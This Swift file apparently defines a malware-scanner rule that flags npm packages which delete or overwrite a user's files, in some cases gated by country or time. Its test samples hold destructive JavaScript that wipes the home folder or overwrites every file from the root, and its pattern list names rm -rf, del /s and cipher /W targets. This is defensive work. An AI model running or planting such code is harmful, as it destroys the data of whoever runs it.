// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// Deletes or overwrites files of the user by itself, or only in some countries or at some times.
package struct DestroysFiles: Rule {
    package init() {}

    package let card = RuleCard(
        id: "destroys-files", kind: .content, title: "Destroys files", severity: .critical, confidence: .medium, status: .stable,
        revision: 1,
        group: "behaviour",
        rationale:
            "node-ipc (2022) overwrote files in two countries; the second worm of 2025 emptied the home folder when it found nothing to steal.",
        knownFalseAlarms: ["A cleaner that removes its own folder below the home folder."],
        references: ["https://snyk.io/blog/peacenotwar-malicious-npm-node-ipc-package-vulnerability/"],
        fires: [
            RuleSample(
                "the home folder",
                .sample([
                    "index.js": "const fs = require('fs'), os = require('os'); fs.rmSync(os.homedir(), { recursive: true, force: true });"
                ])),
            RuleSample(
                "in one country",
                .sample([
                    "index.js":
                        "const fs = require('fs'); function walk(d) { for (const f of fs.readdirSync(d)) fs.writeFileSync(d + '/' + f, 'x'); } if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Nowhere') walk('/');"
                ])),
        ],
        staysSilent: [
            RuleSample(
                "its own temporary file",
                .sample(["index.js": "const fs = require('fs'); fs.unlinkSync(require('path').join(__dirname, 'a.tmp'));"])),
            RuleSample(
                "a cache below the home folder",
                .sample([
                    "index.js":
                        "const fs = require('fs'), path = require('path'), os = require('os'); exports.clear = () => fs.rmSync(path.join(os.homedir(), '.cache', 'a'), { recursive: true });"
                ])),
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        var best: (file: Int, fact: Fact, words: String, strength: Double)?
        func take(_ file: Int, _ fact: Fact, _ words: String, _ strength: Double) {
            if strength > (best?.strength ?? 0) { best = (file, fact, words, strength) }
        }
        for (file, fact) in facts.acts(.deletesFiles) where fact.details.first == "~" {
            if facts.moment(of: fact, in: file).isByItself { take(file, fact, "deletes the home folder", 0.8) }
        }
        for (file, fact) in facts.acts(.deletesFiles, .writesFile) {
            guard facts.moment(of: fact, in: file).isByItself else { continue }
            let listsFiles = facts.behaviour.files[file]?.facts.contains { $0.api.contains("readdir") || $0.api.contains("glob") } == true
            let isByPlace = fact.gates.contains { $0.kind == .place }
            let isByTime = fact.gates.contains { $0.kind == .time }
            // Many programs write when it is time to; few delete then, and fewer write in one country only.
            if fact.kind == .deletesFiles, isByPlace || isByTime {
                take(file, fact, "deletes files", (isByPlace ? 0.6 : 0.25) + (listsFiles ? 0.25 : 0))
            } else if fact.kind == .writesFile, isByPlace, listsFiles {
                take(file, fact, "overwrites files that it finds", 0.6)
            }
        }
        for (file, fact) in facts.acts(.startsProcess) {
            let moment = facts.moment(of: fact, in: file)
            guard moment.isByItself, let command = fact.details.first(where: Self.isDestructive) else { continue }
            take(file, fact, "runs \(Excerpt.clean(command))", 0.8)
        }
        guard let best else { return [] }
        return [
            card.finding(
                "\(facts.files[best.file].path) \(best.words)\(facts.moment(of: best.fact, in: best.file).words)\(facts.gateWords(best.fact))",
                strength: best.strength, evidence: [facts.evidence(best.fact, in: best.file)],
                meaning: "Files of whoever runs it may be gone.")
        ]
    }

    /// Commands that delete a home folder or a whole disk.
    private static func isDestructive(_ text: String) -> Bool {
        let words = text.split(whereSeparator: { " \t;&|".contains($0) }).map(String.init)
        guard let at = words.firstIndex(where: { $0 == "rm" || $0.hasSuffix("/rm") }) else {
            return text.contains("del /s") && text.contains("%USERPROFILE%") || text.hasPrefix("cipher /W")
        }
        let rest = words[(at + 1)...]
        let isRecursive = rest.contains { $0.hasPrefix("-") && ($0.contains("r") || $0.contains("R")) }
        return isRecursive && rest.contains { ["~", "~/", "~/*", "/", "/*", "$HOME", "$HOME/", "\"$HOME\"", "$HOME/*"].contains($0) }
    }
}
